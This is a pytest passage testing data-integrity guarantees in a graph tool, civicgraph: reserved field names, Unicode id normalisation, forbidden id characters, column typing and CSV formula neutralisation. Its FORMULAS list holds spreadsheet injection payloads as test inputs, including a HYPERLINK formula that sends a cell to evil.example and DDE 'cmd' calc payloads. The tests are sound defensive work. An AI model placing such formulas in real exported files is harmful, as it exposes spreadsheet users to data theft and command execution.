"""Nothing lost, nothing injected (issue 19): each class of the issue's "Seen" list, with
inputs written here, varied across formats, and checked against the real engine and CLI.

Classes (each test records its probes; the run ends with a ``[fuzz] … integrity probes``
line giving the count per class and outcome):

* ``reserved-names`` — a property named like a record's own field never moves a relationship
  or hides structure: refused, one line, nothing written (JSON Lines, GraphML, mapping, CSV,
  the Store API);
* ``known-columns`` — ``Start``, ``END``, ``Sources``, ``ID``… are those columns;
* ``nfc-ids`` — an id typed in NFD is the same node as in NFC (files, Store API, query and
  cypher parameters);
* ``id-characters`` — ``|`` and control characters in an id: refused with file, line, field;
* ``column-types`` — one type per column (a ``siren`` stays text);
* ``spreadsheet-csv`` — formulas in every CSV civicgraph writes are neutralised, and read
  back to the original value;
* ``terminal`` — no terminal control sequence reaches a table;
* ``exports`` — atomic (the previous file survives a full disk), well-formed XML;
* ``output-paths`` — ``--report``/``-o`` checked before the first write; a failure after a
  partial commit says what was committed and that ``--resume`` finishes;
* ``no-traceback``, ``read-only-store``, ``two-writers``, ``missing-store``;
* ``reload-twice`` — every accepted input loaded twice: the digest does not move.

Tests that need a full or read-only file system run the CLI in a private mount namespace
(``unshare -m``, a small tmpfs or a read-only bind mount): real ``ENOSPC``/``EROFS``, no
mock.  They skip where that is not permitted (not root).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shlex
import subprocess
import sys
import time
import unicodedata
import xml.etree.ElementTree as ET
from collections import Counter, defaultdict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import networkx as nx
import pytest

from civicgraph.graph import (
    InvalidId,
    InvalidProperty,
    InvalidRows,
    LoadError,
    ReadOnlyStore,
    Store,
    StoreNotFound,
    open_store,
)
from civicgraph.graph.export import export
from civicgraph.graph.output import format_rows
from civicgraph.loaders import load
from civicgraph.queries import load_catalogue

Probes = defaultdict[str, Counter[str]]
CIVICGRAPH = str(Path(sys.executable).with_name("civicgraph"))
NFC = unicodedata.normalize("NFC", "person:carême")
NFD = unicodedata.normalize("NFD", "person:carême")
assert NFC != NFD


# -- helpers -----------------------------------------------------------------------------------
def _jl(*objs: dict[str, Any]) -> str:
    return "".join(json.dumps(o, ensure_ascii=False) + "\n" for o in objs)


def _node(nid: str, label: str = "Organization", /, **props: Any) -> dict[str, Any]:
    return {"kind": "node", "id": nid, "labels": [label], "properties": {"name": "N", **props}}


def _rel(rtype: str, a: str, b: str, /, **props: Any) -> dict[str, Any]:
    return {"kind": "relationship", "type": rtype, "source": a, "target": b, "properties": props}


def _csv(rows: list[list[str]]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _graphml(
    nodes: list[tuple[str, dict[str, str]]], edges: list[tuple[str, str, dict[str, str]]]
) -> str:
    keys: dict[tuple[str, str], str] = {}
    for kind, items in (("node", [d for _, d in nodes]), ("edge", [d for *_, d in edges])):
        for d in items:
            for k in d:
                keys.setdefault((kind, k), f"{kind[0]}{len(keys)}")
    head = "".join(
        f'<key id="{i}" for="{kind}" attr.name="{name}" attr.type="string"/>'
        for (kind, name), i in keys.items()
    )

    def data(kind: str, d: dict[str, str]) -> str:
        return "".join(
            f'<data key="{keys[(kind, k)]}">{_xml_escape(v)}</data>' for k, v in d.items()
        )

    body = "".join(f'<node id="{_xml_escape(n)}">{data("node", d)}</node>' for n, d in nodes)
    body += "".join(
        f'<edge source="{_xml_escape(a)}" target="{_xml_escape(b)}">{data("edge", d)}</edge>'
        for a, b, d in edges
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
        f'{head}<graph edgedefault="directed">{body}</graph></graphml>'
    )


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _cli(*args: str, cwd: Path, timeout: float = 180) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [CIVICGRAPH, *args], cwd=cwd, capture_output=True, text=True, timeout=timeout
    )


def _one_line_error(proc: subprocess.CompletedProcess[str]) -> str:
    """The CLI failed cleanly: non-zero exit, no traceback, one line on stderr."""
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    lines = [x for x in proc.stderr.splitlines() if x.strip() and not x.startswith("civicgraph:")]
    assert len(lines) == 1, proc.stderr
    return lines[0]


def _can_unshare() -> bool:
    try:
        return (
            subprocess.run(["unshare", "-m", "true"], capture_output=True, timeout=10).returncode
            == 0
        )
    except (OSError, subprocess.SubprocessError):
        return False


needs_mounts = pytest.mark.skipif(
    not _can_unshare(), reason="needs a private mount namespace (unshare -m, as root)"
)


def _in_namespace(script: str, cwd: Path, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """Run a bash *script* in a private mount namespace (its mounts vanish with it)."""
    env = {**os.environ, "PATH": f"{Path(CIVICGRAPH).parent}:{os.environ.get('PATH', '')}"}
    return subprocess.run(
        ["unshare", "-m", "bash", "-c", "set -u\n" + script],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
    )


def _paths(name: str, text: str) -> Callable[[Path], dict[str, Any]]:
    """A writer of one input file *name* holding *text*, loaded as ``paths``."""

    def write(d: Path) -> dict[str, Any]:
        (d / name).write_text(text, encoding="utf-8")
        return {"paths": [d / name]}

    return write


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- a small seeded store, shared by the refusal probes ----------------------------------------
SEED = _jl(
    _node("org:seed-a", name="Seed A", sources=["src:seed"]),
    _node("org:seed-b", name="Seed B", sources=["src:seed"]),
    _node("insee:38185", "City", name="Grenoble", siren="213801855", sources=["src:seed"]),
    _node("net:seed", "Network", name="Seed network", sources=["src:seed"]),
    _node("person:seed", "Person", name="Seed Person", sources=["src:seed"]),
    _rel("MEMBER_OF", "insee:38185", "net:seed", start="2018-09-26", sources=["src:seed"]),
)


class Seeded:
    def __init__(self, store: Store, digest: str) -> None:
        self.store, self.digest = store, digest


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = tmp_path_factory.mktemp("integrity")
    (folder / "seed.jsonl").write_text(SEED, encoding="utf-8")
    store = open_store(folder / "s.db")
    try:
        load(store, [folder / "seed.jsonl"], progress=False)
        yield Seeded(store, store.digest())
    finally:
        store.close()


def _refused(
    seeded: Seeded, kwargs: dict[str, Any], field: str | None, names: list[str]
) -> LoadError:
    """Load *kwargs*: it must be refused with a LoadError naming a file (and *field*), and
    leave the store as it was."""
    with pytest.raises(LoadError) as exc:
        load(seeded.store, progress=False, **kwargs)
    message = str(exc.value)
    # One line per problem: the error alone, or (InvalidRows) a count, then one line each.
    lines = message.splitlines()
    if isinstance(exc.value, InvalidRows):
        assert lines[0].startswith(f"{exc.value.total} problems"), message
        lines = lines[1:]
    assert len(lines) == getattr(exc.value, "total", 1), message
    assert all(any(n in line for n in names) for line in lines), message
    if field is not None:
        assert exc.value.field == field, message
    assert seeded.store.digest() == seeded.digest, "a refused input changed the store"
    return exc.value


# == reserved names ==========================================================================
MAP_CSV = "code,nom,dep\n38185,Grenoble,net:seed\n"


def _mapping(node_props: str = "{name: nom}", rel_props: str = "{}") -> str:
    return (
        "format: csv\n"
        "nodes:\n"
        "  - label: City\n"
        '    id: "insee:{code}"\n'
        f"    properties: {node_props}\n"
        "relationships:\n"
        "  - type: MEMBER_OF\n"
        '    source: "insee:{code}"\n'
        "    target: dep\n"
        f"    properties: {rel_props}\n"
    )


def _reserved_cases() -> list[tuple[str, str, Callable[[Path], dict[str, Any]]]]:
    """(case id, field the error names, writer) for reserved names wherever a format puts
    properties."""
    cases: list[tuple[str, str, Callable[[Path], dict[str, Any]]]] = []

    def jsonl(text: str) -> Callable[[Path], dict[str, Any]]:
        return _paths("r.jsonl", text)

    # JSON Lines relationship properties: the case points target at a node that is
    # nowhere ("created 1", nothing written) or at another one (the relationship moves).
    for key, value in [
        ("target", "insee:38185"),
        ("target", "org:nowhere"),
        ("source", "org:seed-b"),
        ("Target", "insee:38185"),
        ("SOURCE", "org:seed-b"),
        ("type", "PARTNER_OF"),
        ("label", "x"),
        ("labels", "x"),
        ("START", "2019-01-01"),
        ("Sources", "src:x"),
    ]:
        cases.append(
            (
                f"jsonl-rel-{key}={value}",
                key,
                jsonl(_jl(_rel("MEMBER_OF", "org:seed-a", "net:seed", **{key: value}))),
            )
        )
    for key in ["label", "labels", "type", "source", "target", "start", "end", "Label", "ID"]:
        cases.append(
            (f"jsonl-node-{key}", key, jsonl(_jl(_node("org:new", **{key: "2019-01-01"}))))
        )
    bad_id = _node("org:new")
    bad_id["properties"]["id"] = "org:other"
    cases.append(("jsonl-node-properties.id-differs", "id", jsonl(_jl(bad_id))))

    # GraphML: an edge attribute named like the edge's ends (the case: a Person
    # MEMBER_OF a City, one more copy per reload), a node attribute named like a field.
    def graphml(text: str) -> Callable[[Path], dict[str, Any]]:
        return _paths("g.graphml", text)

    for key, value in [
        ("target", "insee:38185"),
        ("source", "person:seed"),
        ("Target", "x"),
        ("labels", "x"),
    ]:
        cases.append(
            (
                f"graphml-edge-{key}",
                key,
                graphml(
                    _graphml([], [("person:seed", "net:seed", {"type": "MEMBER_OF", key: value})])
                ),
            )
        )
    for key in ["type", "target", "start"]:
        cases.append(
            (
                f"graphml-node-{key}",
                key,
                graphml(
                    _graphml([("org:g", {"label": "Organization", "name": "G", key: "x"})], [])
                ),
            )
        )

    # A mapping's properties: refused when the mapping is read (its YAML file named).
    def mapped(
        node_props: str = "{name: nom}", rel_props: str = "{}"
    ) -> Callable[[Path], dict[str, Any]]:
        def write(d: Path) -> dict[str, Any]:
            (d / "m.csv").write_text(MAP_CSV, encoding="utf-8")
            (d / "m.yaml").write_text(_mapping(node_props, rel_props), encoding="utf-8")
            return {"paths": [d / "m.csv"], "mapping": d / "m.yaml"}

        return write

    for key in ["target", "source", "type", "id", "label", "TARGET"]:
        cases.append((f"mapping-rel-{key}", key, mapped(rel_props=f"{{{key}: code}}")))
    for key in ["id", "label", "type", "target", "start"]:
        cases.append((f"mapping-node-{key}", key, mapped(node_props=f"{{name: nom, {key}: code}}")))

    # Zero-config CSV: an extra column named like a field of the other kind of record.
    def nodes_csv(col: str) -> Callable[[Path], dict[str, Any]]:
        def write(d: Path) -> dict[str, Any]:
            (d / "n.csv").write_text(
                _csv([["id", "label", "name", col], ["org:c", "Organization", "C", "x"]])
            )
            return {"nodes": [d / "n.csv"]}

        return write

    def edges_csv(col: str) -> Callable[[Path], dict[str, Any]]:
        def write(d: Path) -> dict[str, Any]:
            (d / "e.csv").write_text(
                _csv(
                    [
                        ["source", "target", "type", col],
                        ["org:seed-a", "org:seed-b", "PARTNER_OF", "x"],
                    ]
                )
            )
            return {"edges": [d / "e.csv"]}

        return write

    # A header cell naming a known column in another case is that column (Type is type).
    for col in ["type", "source", "target", "start", "end", "Type"]:
        cases.append((f"nodes-csv-{col}", col.lower(), nodes_csv(col)))
    # Gephi's edges table has an Id column: it is dropped (a relationship's id is derived),
    # and its Label is the relationship's type, refused here because it differs from Type.
    for col in ["label", "labels"]:
        cases.append((f"edges-csv-{col}", col, edges_csv(col)))
    return cases


RESERVED = _reserved_cases()


@pytest.mark.parametrize(("cid", "field", "write"), RESERVED, ids=[c[0] for c in RESERVED])
def test_a_reserved_property_name_is_refused(
    seeded: Seeded,
    tmp_path: Path,
    probes: Probes,
    cid: str,
    field: str,
    write: Callable[[Path], dict[str, Any]],
) -> None:
    kwargs = write(tmp_path)
    names = [p.name for p in tmp_path.iterdir()]
    err = _refused(seeded, kwargs, field, names)
    assert any(w in err.message for w in ("reserved", "twice", "not the node's id")), err.message
    probes["reserved-names"]["refused"] += 1


def test_the_store_api_refuses_reserved_names_and_never_moves_a_relationship(
    seeded: Seeded, probes: Probes
) -> None:
    store = seeded.store
    for props in ({"target": "insee:38185"}, {"source": "org:seed-b"}, {"Type": "X"}):
        with pytest.raises(InvalidProperty, match="reserved"):
            store.upsert_relationship("MEMBER_OF", "org:seed-a", "net:seed", props)
        probes["reserved-names"]["refused"] += 1
    with pytest.raises(InvalidProperty, match="derived"):
        store.upsert_relationship("MEMBER_OF", "org:seed-a", "net:seed", {"id": "x"})
    probes["reserved-names"]["refused"] += 1
    for key in ("label", "type", "start"):
        with pytest.raises(InvalidProperty, match="reserved"):
            store.upsert_node("Organization", {"id": "org:z", "name": "Z", key: "x"})
        probes["reserved-names"]["refused"] += 1
    assert store.digest() == seeded.digest


# == known columns in any case ===============================================================
@pytest.mark.parametrize(
    "header",
    [
        ["source", "target", "type", "Start", "End", "Sources"],
        ["SOURCE", "TARGET", "TYPE", "START", "end", "sources"],
        ["Source", "Target", "Type", "start", "END", "SOURCES"],
    ],
    ids=lambda h: ",".join(h),
)
def test_known_columns_are_read_in_any_case(
    store: Store, tmp_path: Path, probes: Probes, header: list[str]
) -> None:
    """The issue's case: ``Start,End`` kept as plain properties, so the membership was undated
    and vanished from every as-of query."""
    store.upsert_nodes("Organization", [{"id": "org:m", "name": "M", "sources": ["s"]}])
    store.upsert_node("Network", {"id": "net:n", "name": "N", "sources": ["s"]})
    edges = tmp_path / "e.csv"
    edges.write_text(
        _csv([header, ["org:m", "net:n", "MEMBER_OF", "2019-01-01", "2020-06-30", "src:a|src:b"]])
    )
    load(store, edges=[edges], progress=False)
    rel = store.query("MATCH ()-[r:MEMBER_OF]->() RETURN properties(r) AS p")[0]["p"]
    assert rel["start"] == "2019-01-01" and rel["end"] == "2020-06-30"
    assert rel["sources"] == ["src:a", "src:b"]
    assert not {"Start", "START", "End", "END", "Sources", "SOURCES"} & set(rel)
    cat = load_catalogue()
    members = {
        r["id"]
        for r in cat.run(store, "network_members", {"network": "net:n", "date": "2019-06-01"})
    }
    assert members == {"org:m"}
    assert not cat.run(store, "network_members", {"network": "net:n", "date": "2021-01-01"})
    probes["known-columns"]["read as the field"] += 1


def test_known_columns_elsewhere_and_duplicates(
    store: Store, tmp_path: Path, probes: Probes
) -> None:
    nodes = tmp_path / "n.csv"
    nodes.write_text(_csv([["ID", "Label", "Name"], ["org:k", "Organization", "K"]]))
    load(store, nodes=[nodes], progress=False)
    assert store.query("MATCH (n {id: 'org:k'}) RETURN n.name AS n")[0]["n"] == "K"
    probes["known-columns"]["read as the field"] += 1
    # GraphML attributes and mapping keys
    g = tmp_path / "g.graphml"
    g.write_text(
        _graphml(
            [],
            [
                (
                    "org:k",
                    "org:k",
                    {"type": "PARTNER_OF", "Start": "2019-01-01", "END": "2019-12-31"},
                )
            ],
        )
    )
    load(store, [g], progress=False)
    m = tmp_path / "m.yaml"
    mc = tmp_path / "m.csv"
    mc.write_text("code,nom,dep\n2019-02-01,Grenoble,net:seed\n")
    m.write_text(
        "nodes: []\nrelationships:\n  - type: PARTNER_OF\n    source: =org:k\n    target: =org:k\n"
        "    properties: {Start: code}\n"
    )
    load(store, [mc], mapping=m, progress=False)
    starts = sorted(
        r["s"] for r in store.query("MATCH ()-[r:PARTNER_OF]->() RETURN r.start AS s, keys(r) AS k")
    )
    assert starts == ["2019-01-01", "2019-02-01"]
    assert all(
        set(r["k"]) <= {"id", "start", "end", "sources"}
        for r in store.query("MATCH ()-[r:PARTNER_OF]->() RETURN keys(r) AS k")
    )
    probes["known-columns"]["read as the field"] += 2
    before = store.digest()
    dup = tmp_path / "d.csv"
    dup.write_text(
        _csv(
            [
                ["source", "target", "type", "start", "Start"],
                ["org:k", "org:k", "PARTNER_OF", "2019-01-01", "2020-01-01"],
            ]
        )
    )
    with pytest.raises(LoadError, match="duplicate column 'start'"):
        load(store, edges=[dup], progress=False)
    assert store.digest() == before
    probes["known-columns"]["refused (twice)"] += 1


# == ids in NFC ==============================================================================
def test_an_id_in_nfd_and_nfc_is_one_node_in_every_format(
    store: Store, tmp_path: Path, probes: Probes
) -> None:
    """The issue's case: ``person:carême`` in NFC and NFD made two nodes, and a later edge in
    the other form was refused as pointing to an unknown node."""
    nodes = tmp_path / "n.csv"
    nodes.write_text(
        _csv([["id", "label", "name"], [NFD, "Person", "Carême"], ["net:n", "Network", "N"]])
    )
    edges = tmp_path / "e.csv"
    edges.write_text(_csv([["source", "target", "type"], [NFC, "net:n", "MEMBER_OF"]]))
    load(store, nodes=[nodes], edges=[edges], progress=False)
    jl = tmp_path / "p.jsonl"
    jl.write_text(
        _jl(
            _node(NFC, "Person", name="Carême 2"),
            _rel("MEMBER_OF", NFD, "net:n", start="2020-01-01"),
        )
    )
    load(store, [jl], progress=False)
    g = tmp_path / "p.graphml"
    g.write_text(_graphml([(NFD, {"label": "Person", "name": "Carême 3"})], []))
    load(store, [g], progress=False)
    m = tmp_path / "m.yaml"
    m.write_text('nodes:\n  - label: Person\n    id: "person:{n}"\n    properties: {name: n}\n')
    mc = tmp_path / "m.csv"
    mc.write_text("n\n" + unicodedata.normalize("NFD", "carême") + "\n", encoding="utf-8")
    load(store, [mc], mapping=m, progress=False)
    store.upsert_node(
        "Person",
        {"id": NFD, "name": "Carême 4", "sources": [unicodedata.normalize("NFD", "src:é")]},
    )
    ids = [r["id"] for r in store.query("MATCH (n:Person) RETURN n.id AS id")]
    assert ids == [NFC]
    assert store.query("MATCH (n:Person) RETURN n.sources AS s")[0]["s"][
        -1
    ] == unicodedata.normalize("NFC", "src:é")
    assert store.query("MATCH (:Person)-[r:MEMBER_OF]->() RETURN count(r) AS n")[0]["n"] == 2
    probes["nfc-ids"]["one node"] += 5
    # parameters: a stored query and cypher -p, typed in NFD
    rows = load_catalogue().run(store, "co_membership", {"actor": NFD})
    assert rows == [] or all(isinstance(r, dict) for r in rows)
    db = store.location
    store.close()
    proc = _cli(
        "cypher",
        "MATCH (n {id: $id}) RETURN n.id AS id",
        "-p",
        f"id={NFD}",
        "--db",
        db,
        "--format",
        "json",
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == [{"id": NFC}]
    proc = _cli(
        "query",
        "membership_timeline",
        "-p",
        "network=net:n",
        "--db",
        db,
        "--format",
        "json",
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    probes["nfc-ids"]["parameter found the node"] += 2


def test_query_parameters_are_nfc(probes: Probes) -> None:
    q = load_catalogue().get("co_membership")
    assert q.bind({"actor": NFD}) == {"actor": NFC}
    q = load_catalogue().get("brokerage_roles")
    assert q.bind({"group": "party", "types": [NFD]})["types"] == [NFC]
    probes["nfc-ids"]["parameter normalised"] += 2


# == forbidden characters in ids =============================================================
BAD_CHARS = ["|", "\x0b", "\x01", "\x1b", "\x7f", "\x85", "\u202e", "\u200b", "\ufeff", "\u2028"]


def _id_cases() -> list[tuple[str, str, int | None, Callable[[Path], dict[str, Any]]]]:
    """(case id, field, line, writer)."""
    cases: list[tuple[str, str, int | None, Callable[[Path], dict[str, Any]]]] = []
    for ch in BAD_CHARS:
        tag = repr(ch)

        def nodes(d: Path, ch: str = ch) -> dict[str, Any]:
            (d / "n.csv").write_text(
                _csv(
                    [
                        ["id", "label", "name"],
                        ["org:ok", "Organization", "ok"],
                        [f"org:a{ch}b", "Organization", "X"],
                    ]
                ),
                encoding="utf-8",
            )
            return {"nodes": [d / "n.csv"]}

        def edges(d: Path, ch: str = ch) -> dict[str, Any]:
            (d / "e.csv").write_text(
                _csv(
                    [["source", "target", "type"], ["org:seed-a", f"org:se{ch}ed-b", "PARTNER_OF"]]
                ),
                encoding="utf-8",
            )
            return {"edges": [d / "e.csv"]}

        def jl_node(d: Path, ch: str = ch) -> dict[str, Any]:
            (d / "j.jsonl").write_text(_jl(_node(f"org:j{ch}")), encoding="utf-8")
            return {"paths": [d / "j.jsonl"]}

        def jl_source(d: Path, ch: str = ch) -> dict[str, Any]:
            (d / "j.jsonl").write_text(
                _jl(_rel("PARTNER_OF", f"org:seed-a{ch}", "org:seed-b")), encoding="utf-8"
            )
            return {"paths": [d / "j.jsonl"]}

        def jl_sources(d: Path, ch: str = ch) -> dict[str, Any]:
            (d / "j.jsonl").write_text(
                _jl(_node("org:j", sources=[f"src:a{ch}b"])), encoding="utf-8"
            )
            return {"paths": [d / "j.jsonl"]}

        cases += [
            (f"nodes-csv-{tag}", "id", 3, nodes),
            (f"edges-csv-{tag}", "target", 2, edges),
            (f"jsonl-node-{tag}", "id", 1, jl_node),
            (f"jsonl-rel-{tag}", "source", 1, jl_source),
            (f"jsonl-sources-{tag}", "sources", 1, jl_sources),
        ]
        if ch not in "\x0b\x01\x1b\x7f":  # XML 1.0 cannot carry those at all

            def gml(d: Path, ch: str = ch) -> dict[str, Any]:
                (d / "g.graphml").write_text(
                    _graphml([(f"org:g{ch}", {"label": "Organization", "name": "G"})], []),
                    encoding="utf-8",
                )
                return {"paths": [d / "g.graphml"]}

            cases.append((f"graphml-node-{tag}", "id", 1, gml))

        def mapped(d: Path, ch: str = ch) -> dict[str, Any]:
            (d / "m.csv").write_text(_csv([["code", "nom"], [f"38{ch}185", "G"]]), encoding="utf-8")
            (d / "m.yaml").write_text(
                'nodes:\n  - label: City\n    id: "insee:{code}"\n    properties: {name: nom}\n'
            )
            return {"paths": [d / "m.csv"], "mapping": d / "m.yaml"}

        cases.append((f"mapping-{tag}", "id", 2, mapped))
    return cases


ID_CASES = _id_cases()


@pytest.mark.parametrize(("cid", "field", "line", "write"), ID_CASES, ids=[c[0] for c in ID_CASES])
def test_an_id_with_the_separator_or_a_control_character_is_refused(
    seeded: Seeded,
    tmp_path: Path,
    probes: Probes,
    cid: str,
    field: str,
    line: int,
    write: Callable[[Path], dict[str, Any]],
) -> None:
    """The issue's case: ids holding ``|`` made two relationships merge into one."""
    kwargs = write(tmp_path)
    err = _refused(seeded, kwargs, field, [p.name for p in tmp_path.iterdir()])
    assert err.line == line, str(err)
    assert "cannot hold" in err.message
    probes["id-characters"]["refused"] += 1


def test_the_store_api_refuses_the_same_ids(seeded: Seeded, probes: Probes) -> None:
    for ch in BAD_CHARS[:4]:
        with pytest.raises(InvalidId):
            seeded.store.upsert_node(
                "Organization", {"id": f"org:x{ch}", "name": "X", "sources": ["s"]}
            )
        with pytest.raises(InvalidId):
            seeded.store.upsert_relationship("PARTNER_OF", "org:seed-a", f"org:se{ch}ed-b")
        probes["id-characters"]["refused"] += 2
    assert seeded.store.digest() == seeded.digest


def test_two_relationships_differing_by_a_separator_are_not_merged(
    seeded: Seeded, tmp_path: Path, probes: Probes
) -> None:
    """``a|b → c`` and ``a → b|c`` had the same identity (``TYPE|a|b|c|``)."""
    p = tmp_path / "e.csv"
    p.write_text(
        _csv(
            [
                ["source", "target", "type"],
                ["org:seed-a|x", "org:seed-b", "PARTNER_OF"],
                ["org:seed-a", "x|org:seed-b", "PARTNER_OF"],
            ]
        )
    )
    _refused(seeded, {"edges": [p]}, "source", ["e.csv"])
    probes["id-characters"]["refused"] += 1


# == one type per column =====================================================================
def test_a_siren_stays_text_and_columns_have_one_type(
    store: Store, tmp_path: Path, probes: Probes
) -> None:
    """The issue's case: sirens ``012345678`` and ``212345678`` in one column were stored as
    a string and an int."""
    nodes = tmp_path / "n.csv"
    nodes.write_text(
        _csv(
            [
                ["id", "label", "name", "siren", "code", "n", "x", "flag", "mixed", "kept"],
                ["insee:01001", "City", "A", "012345678", "007", "12", "1", "true", "1", "1.50"],
                ["insee:21231", "City", "B", "212345678", "12", "-3", "2.5", "FALSE", "'-5", "2"],
                ["org:t", "Organization", "T", "", "", "0", "", "", "", ""],
            ]
        )
    )
    load(store, nodes=[nodes], progress=False)
    got = {
        r["id"]: r["p"]
        for r in store.query(
            "MATCH (n) WHERE n.id IN ['insee:01001', 'insee:21231', 'org:t'] RETURN n.id AS id, properties(n) AS p"
        )
    }
    assert got["insee:01001"]["siren"] == "012345678" and got["insee:21231"]["siren"] == "212345678"
    assert (got["insee:01001"]["code"], got["insee:21231"]["code"]) == ("007", "12")  # text
    assert (got["insee:01001"]["n"], got["insee:21231"]["n"], got["org:t"]["n"]) == (12, -3, 0)
    assert (got["insee:01001"]["x"], got["insee:21231"]["x"]) == (1.0, 2.5)  # floats both
    assert (got["insee:01001"]["flag"], got["insee:21231"]["flag"]) == (True, False)
    assert (got["insee:01001"]["mixed"], got["insee:21231"]["mixed"]) == ("1", "-5")  # 'quoted
    assert (got["insee:01001"]["kept"], got["insee:21231"]["kept"]) == ("1.50", "2")
    probes["column-types"]["one type per column"] += 7
    # a mapping's CSV: the same rule; its JSON Lines: JSON's own types (a code made text)
    m = tmp_path / "m.yaml"
    m.write_text(
        'nodes:\n  - label: City\n    id: "insee:{code}"\n    properties: {name: nom, siren: siren, pop: pop}\n'
    )
    mc = tmp_path / "m.csv"
    mc.write_text(
        "code,nom,siren,pop\n05023,Briançon,012345678,11411\n38185,Grenoble,212345678,158198\n",
        encoding="utf-8",
    )
    load(store, [mc], mapping=m, progress=False)
    rows = store.query(
        "MATCH (n:City) WHERE n.id IN ['insee:05023', 'insee:38185'] RETURN n.siren AS s, n.pop AS p ORDER BY n.id"
    )
    assert rows == [{"s": "012345678", "p": 11411}, {"s": "212345678", "p": 158198}]
    mj = tmp_path / "m.jsonl"
    mj.write_text('{"code": "69123", "nom": "Lyon", "siren": 216901231, "pop": "522250"}\n')
    load(store, [mj], mapping=m, progress=False)
    assert store.query("MATCH (n {id: 'insee:69123'}) RETURN n.siren AS s, n.pop AS p") == [
        {"s": "216901231", "p": "522250"}
    ]
    probes["column-types"]["one type per column"] += 2


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("jsonl", _jl(_node("insee:69123", "City", name="Lyon", siren=216901231))),
        (
            "graphml",
            '<?xml version="1.0"?><graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
            '<key id="l" for="node" attr.name="label" attr.type="string"/>'
            '<key id="n" for="node" attr.name="name" attr.type="string"/>'
            '<key id="s" for="node" attr.name="siren" attr.type="long"/>'
            '<graph edgedefault="directed"><node id="insee:69123"><data key="l">City</data>'
            '<data key="n">Lyon</data><data key="s">216901231</data></node></graph></graphml>',
        ),
    ],
)
def test_a_typed_format_giving_a_code_as_a_number_is_refused(
    seeded: Seeded, tmp_path: Path, probes: Probes, name: str, text: str
) -> None:
    p = tmp_path / f"x.{name}"
    p.write_text(text)
    err = _refused(seeded, {"paths": [p]}, "siren", ["x." + name])
    assert "must be text" in err.message
    probes["column-types"]["refused (typed format)"] += 1


# == spreadsheet-safe CSV ====================================================================
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-two quotes",
]
ACTIVE = ("=", "+", "-", "@", "\t", "\r")


def _formula_store(path: Path) -> Store:
    store = open_store(path)
    rows = [_node(f"org:f{i}", name=v, sources=["src:f"]) for i, v in enumerate(FORMULAS)]
    rows.append(_node("org:plain", name="plain", n=-3, sources=["src:f"]))
    f = path.parent / "f.jsonl"
    f.write_text(_jl(*rows), encoding="utf-8")
    load(store, [f], progress=False)
    return store


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_csv_civicgraph_writes_neutralises_formulas(tmp_path: Path, probes: Probes) -> None:
    store = _formula_store(tmp_path / "f.db")
    try:
        out = tmp_path / "out"
        export(store, "csv", out)
        with open(out / "nodes.csv", encoding="utf-8", newline="") as f:
            nodes_csv = f.read()
        format_csv = format_rows(
            store.query("MATCH (o:Organization) RETURN o.name AS `=name`, o.n AS n"), "csv"
        )
    finally:
        store.close()
    for where, text in (("export", nodes_csv), ("--format csv", format_csv)):
        rows = _cells(text)
        for row in rows:
            for cell in row:
                if cell.startswith(ACTIVE):
                    assert cell == "-3", f"{where}: an active cell {cell!r}"
        names = {c for row in rows for c in row}
        for v in FORMULAS:
            assert "'" + v in names, f"{where}: {v!r} not neutralised"
            probes["spreadsheet-csv"]["neutralised"] += 1
        assert "-3" in names  # a number stays a number
    # CLI: query/cypher --format csv
    db = str(tmp_path / "f.db")
    proc = _cli(
        "cypher",
        "MATCH (o:Organization) RETURN o.name AS name ORDER BY name",
        "--db",
        db,
        "--format",
        "csv",
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    assert all(not c.startswith(ACTIVE) for row in _cells(proc.stdout) for c in row)
    probes["spreadsheet-csv"]["neutralised"] += 1


def test_civicgraph_reads_its_csv_back_to_the_original_values(
    tmp_path: Path, probes: Probes
) -> None:
    store = _formula_store(tmp_path / "f.db")
    try:
        export(store, "csv", tmp_path / "out")
        want = {
            r["id"]: r["name"]
            for r in store.query("MATCH (o:Organization) RETURN o.id AS id, o.name AS name")
        }
    finally:
        store.close()
    digests = []
    with open_store(tmp_path / "back.db") as back:
        for _ in range(2):  # and again: nothing changes
            load(
                back,
                nodes=[tmp_path / "out" / "nodes.csv"],
                edges=[tmp_path / "out" / "edges.csv"],
                progress=False,
            )
            digests.append(back.digest())
        got = {
            r["id"]: r["name"]
            for r in back.query("MATCH (o:Organization) RETURN o.id AS id, o.name AS name")
        }
        assert back.query("MATCH (o {id: 'org:plain'}) RETURN o.n AS n") == [{"n": -3}]
    assert got == want
    assert digests[0] == digests[1]
    probes["spreadsheet-csv"]["read back"] += len(FORMULAS)
    probes["reload-twice"]["unchanged"] += 1


def test_the_report_is_neutralised_and_written_whole(tmp_path: Path, probes: Probes) -> None:
    nodes = tmp_path / "n.csv"
    nodes.write_text(
        _csv(
            [
                ["id", "label", "name"],
                ["org:ok", "Organization", "OK"],
                ["org:x", '=HYPERLINK("http://evil.example","x")', "X"],
                ["org:y", "@SUM(1)", "Y"],
                ["org:z", "-1+1", "Z"],
            ]
        )
    )
